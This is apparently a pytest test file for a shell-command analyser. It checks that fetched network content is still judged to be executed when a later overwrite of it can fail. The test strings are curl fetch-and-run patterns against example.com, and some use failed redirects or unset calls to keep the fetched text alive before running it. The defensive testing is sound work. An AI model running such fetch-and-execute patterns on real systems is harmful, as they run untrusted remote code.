"""A change that may not happen joins the old state and the new: what was there before still counts."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import outcomes

F = "curl -s https://example.com/p"

STILL_FETCHED = [
    f"x=$({F}); read x </nonexistent; $x",
    f"x=$({F}); {{ x=true; }} </nonexistent; $x",
    f"x=$({F}); f() {{ x=true; }}; f </nonexistent; $x",
    f"x=$({F}); export x=true </nonexistent; $x",
    f"x=$({F}); unset x </nonexistent; $x",
    f"x=$({F}); unset -n x; $x",
    f"exec true </nonexistent; x=$({F}); $x",
    f"{F} > f; mv none f; sh f",
    f"{F} > f; cp -n g f; sh f",
]

HARMLESS = [
    f"x=$({F}); x=true; $x",
    f"x=$({F}); {{ x=true; }}; $x",
    f"x=$({F}); unset x; $x ls",
    f"{F} > f; echo true > f; sh f",
    f"x=$({F}); read y </nonexistent; echo $y",
]


@pytest.mark.parametrize("command", STILL_FETCHED)
def test_the_old_state_still_counts(command: str) -> None:
    """Where the change fails, the fetched text is what runs."""
    assert "fetched" in outcomes(command, "bash")


@pytest.mark.parametrize("command", HARMLESS)
def test_a_certain_change_replaces(command: str) -> None:
    """Where nothing can fail, what was there before is gone."""
    assert "fetched" not in outcomes(command, "bash")
